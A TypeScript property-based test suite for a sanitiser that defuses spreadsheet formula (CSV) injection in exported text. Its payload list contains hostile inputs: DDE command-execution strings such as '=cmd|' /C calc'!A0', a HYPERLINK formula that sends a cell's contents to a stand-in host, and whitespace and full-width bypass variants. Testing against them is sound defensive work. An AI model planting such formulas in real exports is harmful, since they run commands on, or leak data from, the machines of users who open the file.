import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { looksLikeFormula, withoutFormulas } from '#http/exports/safe-text.ts';

const payloads: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  '+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '   =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u00ad@SUM(1)',
  '\t',
  '\rchữ',
];

describe('A text that a spreadsheet would run', () => {
  it.each(payloads)('%j is made a text', (payload) => {
    expect(looksLikeFormula(payload)).toBe(true);
    const safe = withoutFormulas(payload);
    expect(safe.startsWith("'")).toBe(true);
    expect(safe.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
    expect(looksLikeFormula(safe)).toBe(false);
  });

  it.each([
    ['Chi;=1+1', "Chi;'=1+1"],
    ['Chi; @SUM(1)', "Chi;' @SUM(1)"],
    ['Chi\t+1', "Chi\t'+1"],
    ['dòng một\n-dòng hai', "dòng một\n'-dòng hai"],
    ['a;=1;=2', "a;'=1;'=2"],
  ])('%j begins a cell where a semicolon, a tab or a line break does', (payload, safe) => {
    expect(looksLikeFormula(payload)).toBe(true);
    expect(withoutFormulas(payload)).toBe(safe);
  });

  it.each(['', 'Sở Y tế', 'a = b', '12/QĐ-TTr', 'thu - chi', '5 + 5', 'a@b.vn', '„=1', "'=1", 'mục a; mục b'])(
    '%j stays as it is',
    (text) => {
      expect(looksLikeFormula(text)).toBe(false);
      expect(withoutFormulas(text)).toBe(text);
    },
  );

  it('whatever the text, nothing that looks like a formula is left, and only apostrophes are added', () => {
    const text = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '＝', ';', '\t', '\r', '\n', ' ', '\u200b', 'a', '1', "'"),
    });
    fc.assert(
      fc.property(text, (given) => {
        const safe = withoutFormulas(given);
        expect(looksLikeFormula(safe)).toBe(false);
        expect(safe.replaceAll("'", '')).toBe(given.replaceAll("'", ''));
        expect(withoutFormulas(safe)).toBe(safe);
      }),
      { numRuns: 2_000 },
    );
  });
});
